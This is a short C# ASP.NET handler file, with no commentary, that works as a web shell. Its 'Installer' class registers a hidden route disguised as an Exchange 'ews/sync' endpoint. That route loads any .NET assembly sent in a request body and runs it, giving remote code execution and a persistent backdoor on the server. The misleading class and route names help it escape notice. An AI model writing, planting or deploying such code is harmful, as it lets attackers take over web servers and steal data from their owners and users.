<%@ WebHandler Language="C#" Class="Installer" %>
using System;
using System.Web;
using System.Web.Routing;
using System.Reflection;

public class Shadow : IHttpHandler
{
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext c)
    {
        byte[] raw = c.Request.BinaryRead(c.Request.ContentLength);
        Assembly.Load(raw).CreateInstance("P").Equals(c);
    }
}
public class ShadowRoute : IRouteHandler
{
    public IHttpHandler GetHttpHandler(RequestContext r) { return new Shadow(); }
}
public class Installer : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext c)
    {
        RouteTable.Routes.Insert(0, new Route("ews/sync/{*rest}", new ShadowRoute()));
        c.Response.Write("1");
    }
}
